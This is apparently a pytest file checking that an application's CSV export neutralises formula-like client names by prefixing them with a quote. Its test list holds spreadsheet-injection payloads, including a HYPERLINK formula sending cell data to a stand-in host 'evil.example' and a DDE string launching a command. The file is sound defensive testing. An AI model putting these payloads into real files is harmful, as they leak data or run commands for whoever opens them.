"""CSV exports open in spreadsheets: text that looks like a formula must stay text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from hwtui.data.db import Database
from hwtui.data.export_csv import export_csv
from hwtui.data.services.identity import Actor
from tests.helpers import add_client

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_formula_like_text_is_exported_as_text(
    db: Database, me: Actor, tmp_path: Path, name: str
) -> None:
    add_client(db, me, "F01", display_name=name)
    out = tmp_path / "out"
    with db.write() as s:
        export_csv(s, me, None, out)
    rows = list(csv.DictReader(io.StringIO((out / "client.csv").read_text(encoding="utf-8"))))
    shown = rows[0]["display_name"]
    assert shown == "'" + name  # a spreadsheet shows it, and runs nothing
    assert rows[0]["code"] == "F01"  # ordinary text is left alone
